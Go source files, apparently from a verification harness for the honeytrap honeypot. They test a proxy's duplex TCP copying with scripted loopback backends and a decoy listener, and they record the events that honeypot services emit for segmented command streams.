	Eof   bool   `json:"eof,omitempty"`   // end this side's direction (CloseWrite)
	Pause int    `json:"pause,omitempty"` // ms to wait before this step (a side that is late)
}

type DuplexInput struct {
	Steps          []DStep `json:"steps"`
	ClientReadsAt  int     `json:"client_reads_after_ms"`  // the client starts reading only then (slow reader)
	BackendReadsAt int     `json:"backend_reads_after_ms"` // likewise the backend
	// Shared: the port is shared with a detector service listed before copy; the server peeks
	// at the client's first bytes before copy runs, so such a schedule starts with a client write
	Shared bool `json:"shared_port,omitempty"`
}

type DuplexObs struct {
	UpLen   int    `json:"backend_received_len"`
	UpH     uint64 `json:"backend_received_fnv"`
	DownLen int    `json:"client_received_len"`
	DownH   uint64 `json:"client_received_fnv"`
	BEof    bool   `json:"backend_saw_eof"`
	CEof    bool   `json:"client_saw_eof"`
	Events  int    `json:"events"`
	Dials   int    `json:"backend_connections"`
}

func (st DStep) data() []byte {
	if len(st.Lit) > 0 {
		return st.Lit
	}
	if st.N > 0 {
		return bytes.Repeat([]byte{byte(st.Byte)}, st.N)
	}
	return nil
}

type sideReader struct {
	mu  sync.Mutex
	got []byte
	eof bool
	end chan struct{}
}

func readSide(c net.Conn, after int) *sideReader {
	r := &sideReader{end: make(chan struct{})}
	go func() {
		defer close(r.end)
		if after > 0 {
			time.Sleep(time.Duration(after) * time.Millisecond)
		}
		buf := make([]byte, 65536)
		for {
			c.SetReadDeadline(time.Now().Add(4 * time.Second))
			n, err := c.Read(buf)
			r.mu.Lock()
			r.got = append(r.got, buf[:n]...)
			if err == io.EOF {
				r.eof = true
			}
			r.mu.Unlock()
			if err != nil {
				return
			}
		}
	}()
	return r
}

func (e *env) runDuplex(in DuplexInput) (DuplexObs, string) {
	rawMu.Lock()
	defer rawMu.Unlock()
	var ob DuplexObs
	manual := make(chan net.Conn, 4)
	e.rawBE.mu.Lock()
	e.rawBE.manual = manual
	e.rawBE.mu.Unlock()
	defer func() {
		e.rawBE.mu.Lock()
		e.rawBE.manual = nil
		e.rawBE.mu.Unlock()
	}()
	srv, cc, err := e.tcpPairOn("copy", in.Shared)
	if err != nil {
		hx.Fatal("tcp pair: %v", err)
	}
	caddr := cc.LocalAddr()
	ev0 := e.capCount("copy", caddr)
	if !inject(srv) {
		return ob, "server does not accept"
	}
	steps := in.Steps
	if in.Shared && len(steps) > 0 && steps[0].Who == "c" && len(steps[0].data()) > 0 {
		// the server hands the connection to copy only once it has peeked at the first bytes
		cc.Write(steps[0].data())
		if steps[0].Eof {
			cc.CloseWrite()
		}
		steps = steps[1:]
	}
	var bc net.Conn
	select {
	case bc = <-manual:
	case <-time.After(3 * time.Second):
		cc.Close()
		return ob, "the proxy did not connect to the backend"
	}
	ob.Dials = 1
	cr := readSide(cc, in.ClientReadsAt)
	br := readSide(bc, in.BackendReadsAt)
	for _, st := range steps {
		if st.Pause > 0 {
			time.Sleep(time.Duration(st.Pause) * time.Millisecond)
		}
		c := cc
		if st.Who == "b" {
			c = bc.(*net.TCPConn)
		}
		if d := st.data(); len(d) > 0 {
			done := make(chan struct{})
			go func() {
				defer close(done)
				c.SetWriteDeadline(time.Now().Add(5 * time.Second))
				c.Write(d)
			}()
			select {
			case <-done:
			case <-time.After(6 * time.Second):
			}
		}
		if st.Eof {
			c.CloseWrite()
		}
		// let the proxy see it before the next step
		time.Sleep(4 * time.Millisecond)
	}
	// the script is over.  A direction it has left open stays open: wait until nothing moves any
	// more (both readers ended, or no byte for 150 ms), take the observation, and only then close
	snap := func(r *sideReader) (int, bool) {
		r.mu.Lock()
		defer r.mu.Unlock()
		return len(r.got), r.eof
	}
	ended := func(r *sideReader) bool {
		select {
		case <-r.end:
			return true
		default:
			return false
		}
	}
	lastC, _ := snap(cr)
	lastB, _ := snap(br)
	quiet := time.Now()
	deadline := time.Now().Add(4 * time.Second)
	for time.Now().Before(deadline) {
		if ended(cr) && ended(br) {
			break
		}
		c, _ := snap(cr)
		b, _ := snap(br)
		if c != lastC || b != lastB {
			lastC, lastB, quiet = c, b, time.Now()
		} else if time.Since(quiet) > 150*time.Millisecond {
			break
		}
		time.Sleep(2 * time.Millisecond)
	}
	cr.mu.Lock()
	ob.DownLen, ob.DownH, ob.CEof = len(cr.got), fnv64(cr.got), cr.eof
	cr.mu.Unlock()
	br.mu.Lock()
	ob.UpLen, ob.UpH, ob.BEof = len(br.got), fnv64(br.got), br.eof
	br.mu.Unlock()
	cc.Close()
	bc.Close()
	<-cr.end
	<-br.end
	// a stray extra backend connection?
	for {
		select {
		case x := <-manual:
			x.Close()
			ob.Dials++
			continue
		default:
		}
		break
	}
	deadline = time.Now().Add(500 * time.Millisecond)
	for {
		ob.Events = e.capCount("copy", caddr) - ev0
		if ob.Events > 0 || time.Now().After(deadline) {
			break
		}
		time.Sleep(2 * time.Millisecond)
	}
	return ob, ""
}

func genDuplexInputs(o hx.Opts, r *hx.Rand) []DuplexInput {
	var ins []DuplexInput
	big := []int{1, 4096, 65536, 262144}
	cw := func(b byte, n int) DStep { return DStep{Who: "c", Byte: int(b), N: n} }
	bw := func(b byte, n int) DStep { return DStep{Who: "b", Byte: int(b), N: n} }
	ceof, beof := DStep{Who: "c", Eof: true}, DStep{Who: "b", Eof: true}
	// corpus: request, client half-closes, the backend answers only then (1 byte .. 256 KiB), late or at once
	for i, n := range big {
		be := bw('r', n)
		be.Pause = []int{0, 20, 0, 50}[i]
		ins = append(ins, DuplexInput{Steps: []DStep{{Who: "c", Lit: hx.B("request\n")}, ceof, be, beof}})
	}
	// the same with a client that is slow to read the large answer, and with several answer chunks
	ins = append(ins, DuplexInput{ClientReadsAt: 60, Steps: []DStep{cw('q', 100), ceof, bw('r', 262144), bw('s', 70000), beof}})
	// the client's large request, a backend that is slow to read it, client half-closes at once; answer afterwards
	ins = append(ins, DuplexInput{BackendReadsAt: 60, Steps: []DStep{cw('q', 262144), ceof, bw('r', 5000), beof}})
	// the mirror image: the backend ends its direction first while the client still has data to send
	ins = append(ins, DuplexInput{Steps: []DStep{bw('b', 10), beof, cw('q', 1000), ceof}})
	ins = append(ins, DuplexInput{Steps: []DStep{cw('p', 10), bw('b', 65536), beof, {Who: "c", Byte: 'q', N: 65536, Pause: 20}, ceof}})
	// ordinary endings: the backend answers and ends, the client never half-closes; the client ends, the backend answers nothing
	ins = append(ins, DuplexInput{Steps: []DStep{cw('q', 1000), bw('r', 65536), beof}})
	ins = append(ins, DuplexInput{Steps: []DStep{cw('q', 65536), ceof, beof}})
	// banner first, then dialogue, ends in either order
	ins = append(ins, DuplexInput{Steps: []DStep{bw('B', 30), cw('q', 5), bw('r', 5), cw('q', 6), ceof, bw('r', 4096), beof}})
	n := 6
	if o.Tier != "quick" {
		n = 60
	}
	for i := 0; i < n; i++ {
		var st []DStep
		nc, nb := r.Range(0, 3), r.Range(0, 3)
		cEnded, bEnded := false, false
		for !(cEnded && bEnded) {
			pickC := r.Bool()
			if cEnded {
				pickC = false
			} else if bEnded {
				pickC = true
			}
			pause := r.PickInt([]int{0, 0, 0, 10, 30})
			if pickC {
				if nc > 0 {
					nc--
					s := cw(byte('a'+r.Intn(26)), r.PickInt([]int{1, 100, 4096, 65536, 200000}))
					s.Pause = pause
					st = append(st, s)
				} else {
					s := ceof
					s.Pause = pause
					st = append(st, s)
					cEnded = true
				}
			} else {
				if nb > 0 {
					nb--
					s := bw(byte('A'+r.Intn(26)), r.PickInt([]int{1, 100, 4096, 65536, 200000}))
					s.Pause = pause
					st = append(st, s)
				} else {
					s := beof
					s.Pause = pause
					st = append(st, s)
					bEnded = true
				}
			}
		}
		ins = append(ins, DuplexInput{Steps: st, ClientReadsAt: r.PickInt([]int{0, 0, 40}), BackendReadsAt: r.PickInt([]int{0, 0, 40})})
	}
	// every third schedule that starts with a client write is run on the shared port
	for i := range ins {
		if st := ins[i].Steps; len(st) > 0 && st[0].Who == "c" && len(st[0].data()) > 0 && i%3 == 1 {
			ins[i].Shared = true
		}
	}
	return ins
}

func coqDuplexCase(id int, in DuplexInput, ob DuplexObs) string {
	var evs []string
	for _, st := range in.Steps {
		up := st.Who == "c"
		if len(st.Lit) > 0 {
			if up {
				evs = append(evs, "XCLit "+hx.CoqBytes(st.Lit))
			} else {
				evs = append(evs, "XBLit "+hx.CoqBytes(st.Lit))
			}
		} else if st.N > 0 {
			if up {
				evs = append(evs, fmt.Sprintf("XC %s %s", hx.CoqN(uint64(st.Byte)), hx.CoqN(uint64(st.N))))
			} else {
				evs = append(evs, fmt.Sprintf("XB %s %s", hx.CoqN(uint64(st.Byte)), hx.CoqN(uint64(st.N))))
			}
		}
		if st.Eof {
			if up {
				evs = append(evs, "XCEof")
			} else {
				evs = append(evs, "XBEof")
			}
		}
	}
	return fmt.Sprintf("mkX %s %s %s %s %s %s %s %s %s %s", hx.CoqN(uint64(id)), hx.CoqList(evs, "ev"),
		hx.CoqN(uint64(ob.UpLen)), coqH(ob.UpH), hx.CoqN(uint64(ob.DownLen)), coqH(ob.DownH),
		hx.CoqBool(ob.BEof), hx.CoqBool(ob.CEof), hx.CoqN(uint64(ob.Events)), hx.CoqN(uint64(ob.Dials)))
}

func runDuplexPart(o hx.Opts, r *hx.Rand, e *env, replay *Input) {
	var ins []DuplexInput
	if replay != nil {
		ins = []DuplexInput{*replay.Duplex}
	} else {
		ins = genDuplexInputs(o, r)
	}
	dist := map[string]int{}
	var cases []hx.Case
	decoy0 := e.decoy.count()
	for i, in := range ins {
		ob, crash := e.runDuplex(in)
		first := "none"
		for _, st := range in.Steps {
			if st.Eof {
				first = st.Who
				break
			}
		}
		dist["first-end:"+first]++
		if in.ClientReadsAt > 0 {
			dist["slow-client"]++
		}
		if in.BackendReadsAt > 0 {
			dist["slow-backend"]++
		}
		if in.Shared {
			dist["shared-port"]++
		}
		inp := in
		cases = append(cases, hx.Case{ID: i, Kind: "duplex-copy", Input: Input{Part: "duplex", Duplex: &inp}, Obs: ob, Crash: crash, Coq: coqDuplexCase(i, in, ob)})
	}
	if n := e.decoy.count() - decoy0; n > 0 && len(cases) > 0 && cases[len(cases)-1].Crash == "" {
		cases[len(cases)-1].Crash = fmt.Sprintf("the decoy listener was contacted %d time(s) during the duplex part", n)
	}
	hx.Write(o, "C15", "duplex", coqHeader+"Import DuplexCheck.\n", "case", cases, dist, nil, 10)
}
