package main

import "verif/harness/hx"

type SSHInput struct{}
type sshBackend struct{}

func newSSHBackend(addr string) (*sshBackend, error)              { return &sshBackend{}, nil }
func runSSHPart(o hx.Opts, r *hx.Rand, e *env, replay *Input) {}
