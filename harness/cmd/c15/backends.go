// Harness-run backends on loopback: an HTTP recorder/replier, a raw TCP recorder, a UDP
// recorder (answers what it is told) and a decoy listener that must never be dialled.
package main

import (
	"bufio"
	"bytes"
	"io"
	"net"
	"net/http"
	"sort"
	"strings"
	"sync"
	"time"
)

// ---------- HTTP backend ----------

type SReq struct {
	Method  string      `json:"method"`
	Target  string      `json:"target"`
	Host    string      `json:"host"`
	Headers [][2]string `json:"headers"` // lower-cased names, sorted by name (stable), framing headers left out
	Chunked bool        `json:"chunked"`
	BodyLen int         `json:"body_len"`
	BodyH   uint64      `json:"body_fnv"`
	RawLen  int         `json:"raw_len"`
	RawH    uint64      `json:"raw_fnv"`
}

type httpReply struct {
	Raw     []byte
	Cuts    []int  // lengths of the writes
	DelayMs int    // wait this long before answering
	Close   string // after this reply: "" keep the connection, "fin" close it, "rst" reset it
}

type backConn struct {
	peer    net.Addr
	local   net.Addr
	caseID  string
	reqs    []SReq
	garbage bool // bytes that do not parse as a request
	done    chan struct{}
}

type httpBackend struct {
	mu      sync.Mutex
	lns     []net.Listener
	conns   []*backConn
	scripts map[string][]httpReply
}

func fnv64(b []byte) uint64 {
	// FNV-1a with 63-bit arithmetic (Coq's primitive integers)
	const mask = uint64(1)<<63 - 1
	h := uint64(14695981039346656037) & mask
	for _, x := range b {
		h ^= uint64(x)
		h = (h * 1099511628211) & mask
	}
	return h
}

var framingHeaders = map[string]bool{"content-length": true, "transfer-encoding": true, "host": true}

// canonHeaders: lower-case names, stable sort by name, framing headers left out.
func canonHeaders(h http.Header, order []string) [][2]string {
	var out [][2]string
	for k, vs := range h {
		lk := strings.ToLower(k)
		if framingHeaders[lk] {
			continue
		}
		for _, v := range vs {
			out = append(out, [2]string{lk, v})
		}
	}
	sort.SliceStable(out, func(i, j int) bool { return out[i][0] < out[j][0] })
	return out
}

type countReader struct {
	r    io.Reader
	n    int
	b    bytes.Buffer
	keep bool
}

func (c *countReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += n
	if c.keep {
		c.b.Write(p[:n])
	}
	return n, err
}

func newHTTPBackend(addrs ...string) (*httpBackend, error) {
	b := &httpBackend{scripts: map[string][]httpReply{}}
	for _, a := range addrs {
		ln, err := net.Listen("tcp", a)
		if err != nil {
			return nil, err
		}
		b.lns = append(b.lns, ln)
		go b.serve(ln)
	}
	return b, nil
}

func (b *httpBackend) serve(ln net.Listener) {
	for {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		bc := &backConn{peer: c.RemoteAddr(), local: c.LocalAddr(), done: make(chan struct{})}
		b.mu.Lock()
		b.conns = append(b.conns, bc)
		b.mu.Unlock()
		go b.handle(c, bc)
	}
}

const markerHeader = "X-C15"

func (b *httpBackend) handle(c net.Conn, bc *backConn) {
	defer close(bc.done)
	defer c.Close()
	cr := &countReader{r: c, keep: true}
	br := bufio.NewReaderSize(cr, 1<<16)
	k := 0
	for {
		start := cr.n - br.Buffered()
		c.SetReadDeadline(time.Now().Add(20 * time.Second))
		req, err := http.ReadRequest(br)
		if err != nil {
			// garbage = bytes arrived that are not a request; a connection that just ends (EOF, or
			// a reset because the proxy closed while a reply was still unread) is not
			if cr.n != start {
				b.mu.Lock()
				bc.garbage = true
				b.mu.Unlock()
			}
			return
		}
		body, berr := io.ReadAll(req.Body)
		end := cr.n - br.Buffered()
		raw := cr.b.Bytes()[start:end]
		s := SReq{Method: req.Method, Target: req.RequestURI, Host: req.Host, Headers: canonHeaders(req.Header, nil),
			Chunked: len(req.TransferEncoding) > 0 && req.TransferEncoding[0] == "chunked",
			BodyLen: len(body), BodyH: fnv64(body), RawLen: len(raw), RawH: fnv64(raw)}
		id := req.Header.Get(markerHeader)
		b.mu.Lock()
		if bc.caseID == "" {
			bc.caseID = id
		}
		bc.reqs = append(bc.reqs, s)
		if berr != nil {
			bc.garbage = true
		}
		var rep httpReply
		if sc := b.scripts[bc.caseID]; k < len(sc) {
			rep = sc[k]
		} else {
			rep = httpReply{Raw: []byte("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")}
		}
		b.mu.Unlock()
		k++
		if berr != nil {
			return
		}
		if rep.DelayMs > 0 {
			time.Sleep(time.Duration(rep.DelayMs) * time.Millisecond)
		}
		rest := rep.Raw
		for _, n := range rep.Cuts {
			if n > len(rest) {
				n = len(rest)
			}
			if n > 0 {
				if _, err := c.Write(rest[:n]); err != nil {
					return
				}
				rest = rest[n:]
				time.Sleep(300 * time.Microsecond)
			}
		}
		if len(rest) > 0 {
			if _, err := c.Write(rest); err != nil {
				return
			}
		}
		switch rep.Close {
		case "fin":
			return
		case "rst":
			// let the reply reach the proxy first: a reset discards what the peer has not read yet
			time.Sleep(15 * time.Millisecond)
			if tc, ok := c.(*net.TCPConn); ok {
				tc.SetLinger(0)
			}
			return
		}
	}
}

func (b *httpBackend) setScript(id string, reps []httpReply) {
	b.mu.Lock()
	b.scripts[id] = reps
	b.mu.Unlock()
}

// connsOf waits until the connections attributed to the case have ended and returns them.
func (b *httpBackend) connsOf(id string, wait time.Duration) []*backConn {
	deadline := time.Now().Add(wait)
	for {
		b.mu.Lock()
		var out []*backConn
		for _, c := range b.conns {
			if c.caseID == id {
				out = append(out, c)
			}
		}
		b.mu.Unlock()
		alldone := true
		for _, c := range out {
			select {
			case <-c.done:
			default:
				alldone = false
			}
		}
		if alldone || time.Now().After(deadline) {
			return out
		}
		time.Sleep(2 * time.Millisecond)
	}
}

func (b *httpBackend) allConns() []*backConn {
	b.mu.Lock()
	defer b.mu.Unlock()
	return append([]*backConn(nil), b.conns...)
}

// ---------- raw TCP backend: reads `want` bytes (or to EOF), replies, closes ----------

type rawScript struct {
	Want    int      // reply after this many bytes (0: reply at once)
	Reply   [][]byte // writes
	DelayMs int      // wait this long before replying
}

type rawConn struct {
	peer net.Addr
	got  []byte
	done chan struct{}
}

// keyedScript: in concurrent scenarios the backend tells its clients apart by what they
// send: once a connection has received exactly Expect it answers with Reply.
type keyedScript struct {
	Expect []byte
	Reply  [][]byte
}

type rawBackend struct {
	mu     sync.Mutex
	ln     net.Listener
	conns  []*rawConn
	script rawScript
	keyed  []keyedScript // non-nil: concurrent mode
	manual chan net.Conn // non-nil: accepted connections are handed to the scenario, which drives them itself
}

var keyedDefaultReply = []byte{0, 7, 'u', 'n', 'k', 'n', 'o', 'w', 'n'} // a framed "unknown"

// serveKeyed reads until what arrived equals one script's Expect (answer with its Reply), or
// can no longer become any script's Expect (answer "unknown"), or nothing more comes.
func (b *rawBackend) serveKeyed(c net.Conn, rc *rawConn, scripts []keyedScript) {
	buf := make([]byte, 65536)
	for {
		b.mu.Lock()
		got := append([]byte(nil), rc.got...)
		b.mu.Unlock()
		viable := false
		for _, sc := range scripts {
			if bytes.Equal(got, sc.Expect) {
				for _, w := range sc.Reply {
					c.Write(w)
					time.Sleep(300 * time.Microsecond)
				}
				return
			}
			if len(got) < len(sc.Expect) && bytes.Equal(got, sc.Expect[:len(got)]) {
				viable = true
			}
		}
		if !viable {
			// if it is a complete length-framed message nobody asked for, say so (the proxy waits
			// for an answer without any deadline on this leg)
			if len(got) >= 2 && len(got)-2 >= int(got[0])<<8|int(got[1]) {
				c.Write(keyedDefaultReply)
				return
			}
		}
		c.SetReadDeadline(time.Now().Add(2 * time.Second))
		n, err := c.Read(buf)
		b.mu.Lock()
		rc.got = append(rc.got, buf[:n]...)
		b.mu.Unlock()
		if err != nil {
			return
		}
	}
}

func newRawBackend(addr string) (*rawBackend, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, err
	}
	b := &rawBackend{ln: ln}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			rc := &rawConn{peer: c.RemoteAddr(), done: make(chan struct{})}
			b.mu.Lock()
			b.conns = append(b.conns, rc)
			sc := b.script
			keyed := b.keyed
			manual := b.manual
			b.mu.Unlock()
			if manual != nil {
				manual <- c
				continue
			}
			go func() {
				defer close(rc.done)
				defer c.Close()
				if keyed != nil {
					b.serveKeyed(c, rc, keyed)
					return
				}
				buf := make([]byte, 65536)
				for len(rc.got) < sc.Want {
					c.SetReadDeadline(time.Now().Add(3 * time.Second))
					n, err := c.Read(buf)
					b.mu.Lock()
					rc.got = append(rc.got, buf[:n]...)
					b.mu.Unlock()
					if err != nil {
						return
					}
				}
				if sc.DelayMs > 0 {
					time.Sleep(time.Duration(sc.DelayMs) * time.Millisecond)
				}
				for _, w := range sc.Reply {
					c.Write(w)
					time.Sleep(300 * time.Microsecond)
				}
			}()
		}
	}()
	return b, nil
}

func (b *rawBackend) snapshot() []*rawConn {
	b.mu.Lock()
	defer b.mu.Unlock()
	return append([]*rawConn(nil), b.conns...)
}

// ---------- UDP backend ----------

type udpDatagram struct {
	peer *net.UDPAddr
	data []byte
}

type udpBackend struct {
	mu    sync.Mutex
	pc    *net.UDPConn
	got   []udpDatagram
	reply func([]byte) []byte
}

func newUDPBackend(addr string) (*udpBackend, error) {
	ua, err := net.ResolveUDPAddr("udp", addr)
	if err != nil {
		return nil, err
	}
	pc, err := net.ListenUDP("udp", ua)
	if err != nil {
		return nil, err
	}
	b := &udpBackend{pc: pc}
	go func() {
		buf := make([]byte, 65536)
		for {
			n, peer, err := pc.ReadFromUDP(buf)
			if err != nil {
				return
			}
			d := append([]byte(nil), buf[:n]...)
			b.mu.Lock()
			b.got = append(b.got, udpDatagram{peer: peer, data: d})
			fn := b.reply
			b.mu.Unlock()
			if fn != nil {
				if rep := fn(d); rep != nil {
					pc.WriteToUDP(rep, peer)
				}
			}
		}
	}()
	return b, nil
}

func (b *udpBackend) snapshot() []udpDatagram {
	b.mu.Lock()
	defer b.mu.Unlock()
	return append([]udpDatagram(nil), b.got...)
}

// ---------- decoy: a TCP and a UDP socket nobody may talk to ----------

type decoy struct {
	mu   sync.Mutex
	seen []string
}

func newDecoy(addr string) (*decoy, error) {
	d := &decoy{}
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, err
	}
	ua, _ := net.ResolveUDPAddr("udp", addr)
	pc, err := net.ListenUDP("udp", ua)
	if err != nil {
		return nil, err
	}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			d.mu.Lock()
			d.seen = append(d.seen, "tcp:"+c.RemoteAddr().String())
			d.mu.Unlock()
			c.Close()
		}
	}()
	go func() {
		buf := make([]byte, 2048)
		for {
			_, peer, err := pc.ReadFromUDP(buf)
			if err != nil {
				return
			}
			d.mu.Lock()
			d.seen = append(d.seen, "udp:"+peer.String())
			d.mu.Unlock()
		}
	}()
	return d, nil
}

func (d *decoy) count() int {
	d.mu.Lock()
	defer d.mu.Unlock()
	return len(d.seen)
}
