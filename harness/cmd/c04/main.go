// C04 harness: every client command captured exactly once, however the stream is segmented.
//
// Each case drives ONE real service (services.Get(name) with a recording channel) over an
// in-memory connection wrapped the way the server does (server.TimeoutConn): a command
// stream is written as a chosen list of segments (one Write each; net.Pipe hands the
// service at most one segment per Read, never coalesced), pipelined or lock-step (wait
// until the service is blocked in Read again after each unit).  UDP services get one
// listener.DummyUDPConn per datagram behind the timeout wrapper.  Observed: the ordered
// list of (event kind, decoded fields) that reached the channel, and whether Handle
// panicked.
package main

import (
	"context"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"sync"
	"time"

	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/listener"
	"github.com/honeytrap/honeytrap/server"
	"github.com/honeytrap/honeytrap/services"
	_ "github.com/honeytrap/honeytrap/services/docker"
	_ "github.com/honeytrap/honeytrap/services/elasticsearch"
	_ "github.com/honeytrap/honeytrap/services/eos"
	_ "github.com/honeytrap/honeytrap/services/ethereum"
	_ "github.com/honeytrap/honeytrap/services/ftp"
	_ "github.com/honeytrap/honeytrap/services/ldap"
	_ "github.com/honeytrap/honeytrap/services/redis"
	_ "github.com/honeytrap/honeytrap/services/smtp"
	_ "github.com/honeytrap/honeytrap/services/snmp"
	_ "github.com/honeytrap/honeytrap/services/telnet"
	"github.com/honeytrap/honeytrap/storage"
	"verif/harness/hx"
	"verif/harness/lab"
)

type Input struct {
	Svc    string `json:"svc"`
	Stream hx.B   `json:"stream"`
	Cuts   []int  `json:"cuts"`            // lengths of the writes; the rest is the last write
	Waits  []int  `json:"waits,omitempty"` // lock-step: after these segment indexes wait until the service is idle
	Mode   string `json:"mode"`            // whole | cut1 | multi | dribble | lockstep | datagram
	Bare   bool   `json:"bare,omitempty"`  // UDP only: hand the service the DummyUDPConn itself (NOT what the server does)
}

type Ev struct {
	T int    `json:"t"`
	F []hx.B `json:"f"`
}

type Obs struct {
	Events []Ev   `json:"events"`
	Code   int    `json:"code"` // 0 returned, 2 panicked
	Panic  string `json:"panic,omitempty"`
}

var svcCode = map[string]int{"ftp": 1, "smtp": 2, "redis": 3, "memcached": 4, "http": 5, "docker": 6,
	"elasticsearch": 7, "eos": 8, "ethereum": 9, "cwmp": 10, "telnet": 11, "ldap": 12,
	"memcached-udp": 20, "tftp": 21, "counterstrike": 22, "dns": 23, "snmp": 25,
	"memcached-udp-seq": 120, "tftp-seq": 121, "counterstrike-seq": 122, "dns-seq": 123, "snmp-seq": 125}

var svcReg = map[string]string{"memcached-udp": "memcached", "memcached-udp-seq": "memcached", "tftp-seq": "tftp",
	"counterstrike-seq": "counterstrike", "dns-seq": "dns", "snmp-seq": "snmp"}

func regName(s string) string {
	if r, ok := svcReg[s]; ok {
		return r
	}
	return s
}

var svcPort = map[string]int{"ftp": 21, "smtp": 25, "redis": 6379, "memcached": 11211, "http": 80, "docker": 2375,
	"telnet": 23, "ldap": 389, "elasticsearch": 9200, "eos": 8888, "ethereum": 8545, "cwmp": 7547, "memcached-udp": 11211, "tftp": 69,
	"counterstrike": 27015, "dns": 53, "snmp": 161,
	"memcached-udp-seq": 11211, "tftp-seq": 69, "counterstrike-seq": 27015, "dns-seq": 53, "snmp-seq": 161}

// ---- recording channel ----
type recorder struct {
	mu  sync.Mutex
	evs []Ev
}

func fields(e event.Event, keys ...string) []hx.B {
	var out []hx.B
	for _, k := range keys {
		out = append(out, hx.B(e.Get(k)))
	}
	return out
}

// toEv projects an event to (kind, decoded fields)
func toEv(e event.Event) Ev {
	cat, ty := e.Get("category"), e.Get("type")
	var ev *Ev
	switch cat {
	case "ftp":
		ev = &Ev{1, fields(e, "ftp.command")}
	case "smtp":
		if ty == "input" {
			ev = &Ev{2, fields(e, "smtp.line")}
		} else if ty == "email" {
			ev = &Ev{3, fields(e, "smtp.body", "smtp.Subject")}
		}
	case "redis":
		ev = &Ev{4, fields(e, "redis.command")}
	case "memcached":
		if ty == "memcached-command" {
			ev = &Ev{5, fields(e, "memcached.command")}
		} else {
			ev = &Ev{6, fields(e, "memcached.command", "memcached.key", "memcached.flags", "memcached.expire-time", "memcached.bytes", "payload")}
		}
	case "http", "docker", "elasticsearch", "eos", "ethereum":
		ev = &Ev{7, fields(e, "http.method", "http.url", "http.host", "payload")}
	case "cwmp":
		ev = &Ev{7, fields(e, "http.method", "http.url", "http.host", "http.body")}
	case "tftp":
		if ty == "tftp-read" {
			ev = &Ev{10, fields(e, "tftp.filename", "tftp.mode")}
		} else if ty == "tftp-write" {
			ev = &Ev{11, fields(e, "tftp.filename", "tftp.mode")}
		} else if ty == "tftp-write-file" {
			content := make([]byte, len(e.Get("tftp.file-hex"))/2)
			fmt.Sscanf(e.Get("tftp.file-hex"), "%x", &content)
			ev = &Ev{20, []hx.B{hx.B(e.Get("tftp.filename")), hx.B(e.Get("tftp.mode")), hx.B(content)}}
		} else {
			ev = &Ev{97, nil}
		}
	case "counterstrike":
		ev = &Ev{12, fields(e, "counterstrike.query", "payload")}
	case "dns":
		ev = &Ev{13, fields(e, "dns.id")}
	case "snmp":
		ev = &Ev{19, []hx.B{hx.B(ty), hx.B(e.Get("snmp.community")), hx.B(e.Get("snmp.oids"))}}
	case "telnet":
		switch ty {
		case "connect":
			ev = &Ev{15, nil}
		case "password-authentication":
			ev = &Ev{16, fields(e, "telnet.username", "telnet.password")}
		case "session":
			ev = &Ev{17, fields(e, "telnet.command")}
		}
	case "ldap":
		ev = &Ev{18, []hx.B{hx.B(anyField(e, "ldap.message-id")), hx.B(e.Get("ldap.request-type"))}}
	default:
		ev = &Ev{99, []hx.B{hx.B(cat), hx.B(ty)}}
	}
	if ev == nil {
		ev = &Ev{98, []hx.B{hx.B(cat), hx.B(ty)}}
	}
	return *ev
}

func (r *recorder) Send(e event.Event) {
	ev := toEv(e)
	r.mu.Lock()
	r.evs = append(r.evs, ev)
	r.mu.Unlock()
}

func (r *recorder) count() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.evs)
}

func (r *recorder) snapshot() []Ev {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]Ev{}, r.evs...)
}

// ftp and smtp hand every line to a per-connection pump goroutine that sends the event; the
// pump ends with its connection (9efeaf2, 7ad8491).  All events of a connection have been
// sent once no goroutine started inside (*Service).Handle / (*ftpService).Handle exists any
// more (looked up in the goroutine dump; a goroutine count would be disturbed by the timer
// goroutines of old connection deadlines).  Fallback (a pump that no longer ends): 2 s, then
// 20 ms without a new event.  All other services send from the goroutine that runs Handle.
var stackBuf = make([]byte, 4<<20)

func pumpsAlive() bool {
	n := runtime.Stack(stackBuf, true)
	d := string(stackBuf[:n])
	// any receiver type name: only the exported method name Handle (the services.Servicer interface)
	// is relied on, so that renaming the unexported service types is not mistaken for "no pump"
	return pumpFrame.MatchString(d)
}

var pumpFrame = regexp.MustCompile(`services/(smtp|ftp)\.\(\*\w+\)\.Handle\.func`)

func (r *recorder) quiesce(svc string) {
	if svc != "ftp" && svc != "smtp" {
		return
	}
	deadline := time.Now().Add(2 * time.Second)
	for pumpsAlive() {
		if time.Now().After(deadline) {
			last, stable := r.count(), 0
			for i := 0; i < 4000 && stable < 40; i++ {
				time.Sleep(500 * time.Microsecond)
				if n := r.count(); n == last {
					stable++
				} else {
					last, stable = n, 0
				}
			}
			return
		}
		runtime.Gosched()
		time.Sleep(20 * time.Microsecond)
	}
}

// ---- server-side connection that knows when the service is blocked in Read ----
type watchConn struct {
	net.Conn
	mu        sync.Mutex
	delivered int
	inRead    bool
}

func (w *watchConn) Read(p []byte) (int, error) {
	w.mu.Lock()
	w.inRead = true
	w.mu.Unlock()
	n, err := w.Conn.Read(p)
	w.mu.Lock()
	w.delivered += n
	w.inRead = false
	w.mu.Unlock()
	return n, err
}

func (w *watchConn) idleAt(total int) bool {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.inRead && w.delivered == total
}

// one service object per name for the whole run, as in the server (smtp registers a
// handler in a package-level mux per object, so there must be exactly one)
var svcObj = map[string]services.Servicer{}
var svcRec = map[string]*recorder{}

func theService(name string) (services.Servicer, *recorder) {
	if s, ok := svcObj[name]; ok {
		return s, svcRec[name]
	}
	fn, ok := services.Get(regName(name))
	if !ok {
		hx.Fatal("service %s is not registered", name)
	}
	rec := &recorder{}
	svcRec[name] = rec
	svcObj[name] = fn(services.WithChannel(rec))
	return svcObj[name], rec
}

func segments(in Input) [][]byte {
	var out [][]byte
	rest := []byte(in.Stream)
	for _, n := range in.Cuts {
		if n > len(rest) {
